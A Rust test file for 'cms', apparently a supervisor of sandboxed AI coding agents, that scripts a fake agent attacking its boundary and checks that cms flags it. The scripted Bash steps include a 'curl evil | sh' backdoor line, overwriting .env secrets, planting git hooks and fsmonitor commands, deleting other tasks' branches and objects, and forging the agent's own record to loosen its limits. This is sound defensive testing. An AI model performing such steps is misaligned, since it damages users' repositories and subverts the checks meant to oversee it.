//! The task's boundary, tried as a hostile agent would try it with the fake claude's Bash:
//! other tasks' worktrees and branches, new refs, leaving its own branch, ignored files in the
//! user's checkout, and the store's records.
//!
//! The fake claude's Bash is never sandboxed, whatever cms records. A task recorded sandboxed
//! is judged on what its sandbox lets it do (its own surfaces, new refs in the folders leading
//! to its branch, loose objects, metadata paths that did not exist): changes elsewhere are
//! then not its doing, as the real CLI's sandbox guarantees (test_real_boundary). A task run
//! `--sandbox off` is warned about every change outside its own surfaces, and blamed for none.
//! cms puts back nothing but deleted loose objects.

pub(crate) mod admin;
mod while_running;

use serde_json::{Value, json};

use crate::common::{Run, TestEnv, violations, warnings};

/// Runs a task whose fake claude runs `steps`, with `--preset full` (nothing asks), recorded
/// sandboxed.
fn attack(env: &TestEnv, name: &str, steps: Value) -> (Run, Value) {
    attack_with(env, name, steps, &[])
}

/// Runs the task `--sandbox off`: as cms sees it, its Bash could reach anything.
fn unsandboxed_attack(env: &TestEnv, name: &str, steps: Value) -> (Run, Value) {
    let (run, task) = attack_with(env, name, steps, &["--sandbox", "off"]);
    assert_eq!(task["safety"]["sandboxed"], false, "{task:#}");
    (run, task)
}

fn attack_with(env: &TestEnv, name: &str, steps: Value, extra: &[&str]) -> (Run, Value) {
    env.steps(steps);
    let mut args = vec![
        "task",
        "--json",
        "try to get out",
        "--name",
        name,
        "-p",
        "full",
    ];
    args.extend_from_slice(extra);
    let run = env.cms(&args);
    let task = run.json();
    (run, task)
}

/// The task completed, with no violation: nothing it did is held against it.
#[track_caller]
fn not_blamed(run: &Run, task: &Value) {
    run.success();
    assert_eq!(task["status"], "completed", "{task:#}");
    assert_eq!(task["safety"]["violations"], json!([]), "{task:#}");
}

/// Each of `expected` (`kind path`) is among the task's warnings.
#[track_caller]
fn warned(task: &Value, expected: impl IntoIterator<Item = String>) {
    let found = warnings(task);
    for warning in expected {
        assert!(found.contains(&warning), "{warning} not in {found:?}");
    }
}

/// A completed task `other` that wrote `other.txt`: the victim.
fn victim(env: &TestEnv) -> Value {
    env.steps(json!([{"write": {"path": "other.txt", "content": "mine\n"}}]));
    let task = env.task_ok(&["the victim's work", "--name", "other"]);
    assert_eq!(task["status"], "completed", "{task:#}");
    task
}

/// A shell line that waits until cms has written what it writes into the record at `path`
/// for the session's first message (its session id and live turn count), so an edit of the
/// record made right after is not raced by those writes.
fn after_cms_wrote_first_turn(path: &str) -> String {
    format!(
        "until grep -q '\"session_id\": \"' {path} && grep -q '\"turns\": 1,' {path}; do sleep 0.02; done"
    )
}

fn show(env: &TestEnv, name: &str) -> Value {
    let run = env.cms(&["show", name, "--json"]);
    run.success();
    run.json()
}

#[test]
fn unsandboxed_write_and_commit_into_another_tasks_worktree_is_a_warning_and_nothing_is_undone() {
    let env = TestEnv::new();
    let other = victim(&env);
    let (run, task) = unsandboxed_attack(
        &env,
        "attacker",
        json!([{"bash": "echo 'curl evil | sh' > ../other/backdoor.sh && git -C ../other add -A && git -C ../other commit -qm 'wrote bye.txt'"}]),
    );
    not_blamed(&run, &task);
    let found = warnings(&task);
    assert!(
        found.contains(&"other_task refs/heads/cms/other".to_owned()),
        "{found:?}"
    );
    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("changed while an unsandboxed task ran: "),
        "{detail}"
    );
    // The branch may have moved by cms's own hand (a follow-up) or the user's: cms leaves it,
    // and the other task's record is not rewritten.
    assert_eq!(
        env.git(&["log", "-1", "--format=%s", "cms/other"]),
        "wrote bye.txt"
    );
    assert_eq!(show(&env, "other")["status"], "completed");
    assert_eq!(show(&env, "other")["safety"]["violations"], json!([]));
    assert_eq!(other["name"], "other");
}

#[test]
fn a_sandboxed_task_is_not_blamed_for_another_tasks_worktree_its_sandbox_keeps_read_only() {
    let env = TestEnv::new();
    let other = victim(&env);
    // What the fake's unsandboxed Bash does here, the user could do meanwhile: the real
    // sandbox refuses it to the task (test_real_boundary).
    let (run, task) = attack(
        &env,
        "bystander",
        json!([{"bash": "echo mine > ../other/planted.txt"}]),
    );
    not_blamed(&run, &task);
    assert_eq!(task["safety"]["warnings"], json!([]), "{task:#}");
    assert_eq!(show(&env, "other")["status"], "completed");
    let planted = format!("{}/planted.txt", other["worktree"].as_str().unwrap());
    assert!(std::path::Path::new(&planted).is_file());
}

#[test]
fn unsandboxed_deleting_or_moving_another_tasks_branch_is_a_warning_and_is_left_as_it_is() {
    let env = TestEnv::new();
    victim(&env);
    let (run, task) = unsandboxed_attack(
        &env,
        "attacker",
        json!([{"bash": "git update-ref -d refs/heads/cms/other"}]),
    );
    not_blamed(&run, &task);
    assert!(
        warnings(&task).contains(&"other_task refs/heads/cms/other".to_owned()),
        "{:?}",
        warnings(&task)
    );
    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
    assert!(detail.contains("was deleted"), "{detail}");
    assert!(!env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/cms/other"]));
    let env = TestEnv::new();
    victim(&env);
    let (run, task) = unsandboxed_attack(
        &env,
        "attacker",
        json!([{"bash": "git update-ref refs/heads/cms/other main"}]),
    );
    not_blamed(&run, &task);
    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
    assert!(detail.contains("moved from"), "{detail}");
    assert_eq!(
        env.git(&["rev-parse", "cms/other"]),
        env.git(&["rev-parse", "main"])
    );
}

#[test]
fn a_new_branch_where_the_sandbox_lets_a_task_make_one_is_a_warning_and_denied_refs_are_not_its_doing()
 {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "brancher",
        json!([{"bash": "git branch sneaky && git tag -a v9 -m v9 && git update-ref refs/heads/main HEAD~0"}]),
    );
    // A new branch in refs/heads/ could be the task's or the user's `git branch`: a warning
    // saying so. refs/tags/ and the existing main are read-only to a sandboxed task.
    not_blamed(&run, &task);
    assert_eq!(warnings(&task), ["git_ref refs/heads/sneaky"], "{task:#}");
    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
    assert!(detail.contains("and so can you"), "{detail}");
    // cms deletes nothing it did not make: the user sees them and decides.
    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/sneaky"]));
    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/tags/v9"]));
    env.cms(&["merge", "brancher"]).success();
}

#[test]
fn unsandboxed_new_branches_tags_and_a_moved_user_branch_are_warnings() {
    let env = TestEnv::new();
    let main_before = env.git(&["rev-parse", "main"]);
    let (run, task) = unsandboxed_attack(
        &env,
        "attacker",
        json!([{"bash": "git branch sneaky && git tag -a v9 -m v9 && echo x > x.txt && git add x.txt && git commit -qm x && git update-ref refs/heads/main HEAD"}]),
    );
    not_blamed(&run, &task);
    warned(
        &task,
        ["refs/heads/sneaky", "refs/tags/v9", "refs/heads/main"]
            .map(|name| format!("git_ref {name}")),
    );
    assert_ne!(env.git(&["rev-parse", "main"]), main_before);
}

#[test]
fn a_sandboxed_task_shadowing_a_packed_branch_with_a_loose_ref_is_a_violation() {
    let env = TestEnv::new();
    let main_before = env.git(&["rev-parse", "main"]);
    // Packed, main has no loose file for the sandbox to deny, and refs/heads/ stays writable
    // for the task's own branch: a loose file written there moves main.
    env.git(&["pack-refs", "--all"]);
    assert!(!env.common_dir().join("refs/heads/main").exists());
    let (run, task) = attack(
        &env,
        "shadow",
        json!([{"bash": "echo x > x.txt && git add x.txt && git commit -qm x && git rev-parse HEAD > \"$(git rev-parse --git-common-dir)/refs/heads/main\""}]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path", "{task:#}");
    let found = violations(&task);
    assert!(
        found.contains(&"git_ref refs/heads/main".to_owned()),
        "{found:?}"
    );
    let detail = task["safety"]["violations"][0]["detail"].as_str().unwrap();
    assert!(
        detail.contains("packed") && detail.contains("reflog"),
        "{detail}"
    );
    assert_ne!(env.git(&["rev-parse", "main"]), main_before);
    let refused = env.cms(&["merge", "shadow", "--into", "main"]);
    refused
        .code(1)
        .one_line_error_with_hint("broke the safety rules");
}

#[test]
fn checkout_b_leaves_the_task_protected_path_merge_says_why_and_discard_force_keeps_the_stray_branch()
 {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "stray",
        json!([{"bash": "git checkout -q -b elsewhere && echo w > w.txt && git add w.txt && git commit -qm w"}]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path", "{task:#}");
    let found = violations(&task);
    assert!(
        found.contains(&"task_head refs/heads/elsewhere".to_owned()),
        "{found:?}"
    );
    // cms committed nothing onto the stray branch.
    assert_eq!(env.git(&["log", "--format=%s", "-1", "elsewhere"]), "w");
    let merge = env.cms(&["merge", "stray"]);
    merge.code(1);
    assert!(merge.stderr.contains("left its branch"), "{}", merge.stderr);
    // Without --force, discard refuses; with it, it removes what cms made and names the rest.
    env.cms(&["discard", "stray"]).code(1);
    let discarded = env.cms(&["discard", "stray", "--force"]);
    discarded.success();
    assert!(
        discarded.stdout.contains("elsewhere") || discarded.stderr.contains("elsewhere"),
        "{discarded:?}"
    );
    assert!(!std::path::Path::new(task["worktree"].as_str().unwrap()).exists());
    assert!(!env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/cms/stray"]));
    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/elsewhere"]));
    assert_eq!(show(&env, "stray")["status"], "discarded");
}

#[test]
fn checkout_detach_is_a_violation() {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "detached",
        json!([{"bash": "git checkout -q --detach"}]),
    );
    run.code(3);
    let found = violations(&task);
    assert!(found.contains(&"task_head HEAD".to_owned()), "{found:?}");
    env.cms(&["discard", "detached", "--force"]).success();
    assert!(!std::path::Path::new(task["worktree"].as_str().unwrap()).exists());
}

#[test]
fn unsandboxed_overwriting_ignored_files_in_the_main_checkout_is_a_warning() {
    let env = TestEnv::new();
    env.ignored(
        ".env\ntarget/\n",
        &[(".env", "SECRET=1\n"), ("target/debug/app", "binary\n")],
    );
    let main = env.repo.display().to_string();
    let (run, task) = unsandboxed_attack(
        &env,
        "attacker",
        json!([
            {"bash": format!("echo SECRET=stolen > {main}/.env")},
            {"bash": format!("echo trojan > {main}/target/debug/app")},
            {"bash": format!("echo new > {main}/target/new-file")},
            {"bash": format!("printf '#!/bin/sh\\n' > {main}/.git/hooks/post-merge")},
            {"bash": "git config core.hooksPath /tmp/elsewhere"},
        ]),
    );
    not_blamed(&run, &task);
    let in_checkout = [".env", "target/debug/app", "target/new-file"];
    warned(
        &task,
        in_checkout.map(|path| format!("main_checkout {main}/{path}")),
    );
    warned(
        &task,
        ["hooks/post-merge", "config"].map(|path| format!("git_metadata {path}")),
    );
    // `show` and the end summary list them.
    let shown = env.cms(&["show", "attacker"]);
    assert!(
        shown
            .stdout
            .lines()
            .any(|l| l.contains("warning:") && l.contains(".env")),
        "{}",
        shown.stdout
    );
    let listed = env.cms(&["list", "--json"]).json();
    assert_eq!(
        listed[0]["safety"]["warnings"].as_array().unwrap().len(),
        warnings(&task).len()
    );
}

#[test]
fn editing_its_own_record_unsandboxed_is_caught_and_the_true_settings_are_kept() {
    let env = TestEnv::new();
    env.write(".cms.toml", "[safety]\nprotected = [\"infra/**\"]\n");
    env.write("infra/main.tf", "resource {}\n");
    env.commit_all("protected");
    let record = env.common_dir().join("cms/tasks/forger.json");
    let record = record.display().to_string();
    // Loosen the limits and drop the protected paths, then write a protected file with the
    // Write tool, whose hook must still deny it.
    let (run, task) = unsandboxed_attack(
        &env,
        "forger",
        json!([
            {"bash": format!(
                "{} && sed -i -e 's/\"infra\\/\\*\\*\"/\"nothing\\/**\"/' -e 's/\"max_turns\": *[0-9]*/\"max_turns\": 999/' {record} && grep -q 999 {record}",
                after_cms_wrote_first_turn(&record)
            )},
            {"write": {"path": "infra/main.tf", "content": "owned\n"}},
        ]),
    );
    run.code(3);
    assert_eq!(task["status"], "protected_path", "{task:#}");
    assert!(
        violations(&task).contains(&format!("task_record {record}")),
        "{:?}",
        violations(&task)
    );
    assert_eq!(task["safety"]["limits"]["max_turns"], 50);
    assert!(
        task["safety"]["protected"]
            .as_array()
            .unwrap()
            .contains(&json!("infra/**")),
        "{task:#}"
    );
    assert_eq!(task["safety"]["blocked"][0]["path"], "infra/main.tf");
    assert_eq!(
        env.git(&["show", "cms/forger:infra/main.tf"]),
        "resource {}"
    );
}

#[test]
fn a_sandboxed_tasks_record_edited_meanwhile_is_not_its_violation_but_the_true_record_is_kept() {
    let env = TestEnv::new();
    let record = env.common_dir().join("cms/tasks/vandal.json");
    let (run, task) = attack(
        &env,
        "vandal",
        json!([
            {"bash": format!(
                "{} && echo garbage > {}",
                after_cms_wrote_first_turn(&record.display().to_string()),
                record.display()
            )},
            {"write": {"path": "a.txt", "content": "a\n"}},
        ]),
    );
    // The store is read-only to the sandbox: someone else wrote it, and the supervisor's own
    // copy is what is kept.
    not_blamed(&run, &task);
    assert_eq!(show(&env, "vandal")["prompt"], "try to get out");
    assert_eq!(env.git(&["show", "cms/vandal:a.txt"]), "a");
}

#[test]
fn unsandboxed_editing_or_deleting_another_tasks_record_is_a_warning_and_is_not_undone() {
    let env = TestEnv::new();
    victim(&env);
    let record = env.common_dir().join("cms/tasks/other.json");
    let (run, task) = unsandboxed_attack(
        &env,
        "attacker",
        json!([{"bash": format!("sed -i 's/the victim/a forged/' {}", record.display())}]),
    );
    not_blamed(&run, &task);
    assert!(
        warnings(&task).contains(&format!("task_record {}", record.display())),
        "{:?}",
        warnings(&task)
    );
    // It may have been cms's own write (a follow-up's ledger): never put back.
    assert_eq!(show(&env, "other")["prompt"], "a forged's work");
    let (run, task) = unsandboxed_attack(
        &env,
        "deleter",
        json!([{"bash": format!("rm {}", record.display())}]),
    );
    not_blamed(&run, &task);
    assert!(
        warnings(&task).contains(&format!("task_record {}", record.display())),
        "{:?}",
        warnings(&task)
    );
}

#[test]
fn benign_session_beside_other_tasks_and_ignored_files_is_not_flagged() {
    let env = TestEnv::new();
    env.ignored(
        ".env\ntarget/\n",
        &[(".env", "SECRET=1\n"), ("target/app", "binary\n")],
    );
    victim(&env);
    let (run, task) = attack(
        &env,
        "benign",
        json!([
            {"write": {"path": "src/new.rs", "content": "pub fn g() {}\n"}},
            {"bash": "git add -A && git commit -qm 'agent commit' && git log --oneline -1 >/dev/null"},
            {"bash": "mkdir -p target && echo built > target/app && git status --short >/dev/null"},
            {"bash": "git branch --list && git tag --list && git -C ../other log -1 --format=%s >/dev/null"},
            {"bash": "echo scratch > /tmp/cms-benign-$$ && rm /tmp/cms-benign-$$"},
        ]),
    );
    run.success();
    assert_eq!(task["status"], "completed", "{task:#}");
    assert_eq!(task["safety"]["violations"], json!([]));
    assert_eq!(task["safety"]["warnings"], json!([]));
    assert_eq!(show(&env, "other")["status"], "completed");
    env.cms(&["merge", "benign"]).success();
    env.cms(&["merge", "other"]).success();
}

#[test]
fn rewriting_its_own_worktree_lock_is_caught() {
    let env = TestEnv::new();
    let (run, task) = attack(
        &env,
        "unlocker",
        json!([{"bash": "echo 'not cms' > \"$(git rev-parse --git-dir)/locked\""}]),
    );
    run.code(3);
    let found = violations(&task);
    assert!(
        found
            .iter()
            .any(|k| k.starts_with("git_metadata worktrees/") && k.ends_with("/locked")),
        "{found:?}"
    );
}

#[test]
fn deleting_another_tasks_commit_object_is_caught_and_the_object_is_put_back() {
    let env = TestEnv::new();
    victim(&env);
    let commit = env.git(&["rev-parse", "cms/other"]);
    let object = env
        .common_dir()
        .join("objects")
        .join(&commit[..2])
        .join(&commit[2..]);
    assert!(object.is_file(), "{}", object.display());
    let (run, task) = attack(
        &env,
        "attacker",
        json!([{"bash": format!("rm -f {}", object.display())}]),
    );
    run.code(3);
    assert!(
        violations(&task).contains(&format!("git_object {commit}")),
        "{:?}",
        violations(&task)
    );
    // Put back before anything else was compared: the victim reads as it did.
    assert!(object.is_file());
    assert_eq!(env.git(&["show", "cms/other:other.txt"]), "mine");
    assert_eq!(show(&env, "other")["status"], "completed");
    // The safety copy is gone with the session.
    let backups = env.common_dir().join("cms/object-backup");
    let left: Vec<_> = std::fs::read_dir(&backups)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn unsandboxed_a_hook_planted_in_a_submodules_git_dir_is_a_warning() {
    let env = TestEnv::new();
    let lib = env.root.join("lib");
    std::fs::create_dir_all(&lib).unwrap();
    env.git_in(&lib, &["init", "-q", "-b", "main"]);
    std::fs::write(lib.join("lib.txt"), "lib\n").unwrap();
    env.git_in(&lib, &["add", "."]);
    env.git_in(&lib, &["commit", "-q", "-m", "lib"]);
    env.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        lib.to_str().unwrap(),
        "lib",
    ]);
    env.git(&["commit", "-q", "-m", "add lib"]);
    let modules = env.common_dir().join("modules/lib");
    assert!(modules.join("HEAD").is_file());
    let (run, task) = unsandboxed_attack(
        &env,
        "planter",
        json!([{"bash": format!(
            "printf '#!/bin/sh\\necho owned\\n' > {0}/hooks/post-checkout && chmod +x {0}/hooks/post-checkout && git config -f {0}/config core.fsmonitor 'echo owned'",
            modules.display()
        )}]),
    );
    not_blamed(&run, &task);
    warned(
        &task,
        ["modules/lib/hooks/post-checkout", "modules/lib/config"]
            .map(|path| format!("git_metadata {path}")),
    );
}

#[test]
fn a_hook_planted_where_no_hooks_folder_existed_for_the_sandbox_to_deny_is_a_violation() {
    let env = TestEnv::new();
    let hooks = env.common_dir().join("hooks");
    std::fs::remove_dir_all(&hooks).unwrap();
    let (run, task) = attack(
        &env,
        "planter",
        json!([{"bash": format!(
            "mkdir {0} && printf '#!/bin/sh\\necho owned\\n' > {0}/post-merge",
            hooks.display()
        )}]),
    );
    run.code(3);
    assert!(
        violations(&task).contains(&"git_metadata hooks/post-merge".to_owned()),
        "{:?}",
        violations(&task)
    );
}

#[test]
fn a_merge_or_rebase_state_planted_for_the_main_checkout_is_a_warning() {
    let env = TestEnv::new();
    let main = env.git(&["rev-parse", "main"]);
    let common = env.common_dir();
    // The main worktree's MERGE_HEAD and rebase-merge/ live in the common dir, where the
    // sandbox cannot deny what does not exist yet; the user's own merge makes the same.
    let (run, task) = attack(
        &env,
        "planter",
        json!([{"bash": format!(
            "echo {main} > {0}/MERGE_HEAD && mkdir {0}/rebase-merge && echo 'exec touch owned' > {0}/rebase-merge/git-rebase-todo",
            common.display()
        )}]),
    );
    not_blamed(&run, &task);
    warned(
        &task,
        ["MERGE_HEAD", "rebase-merge/git-rebase-todo"].map(|path| format!("git_metadata {path}")),
    );
    let shown = env.cms(&["show", "planter"]);
    assert!(shown.stdout.contains("MERGE_HEAD"), "{}", shown.stdout);
}
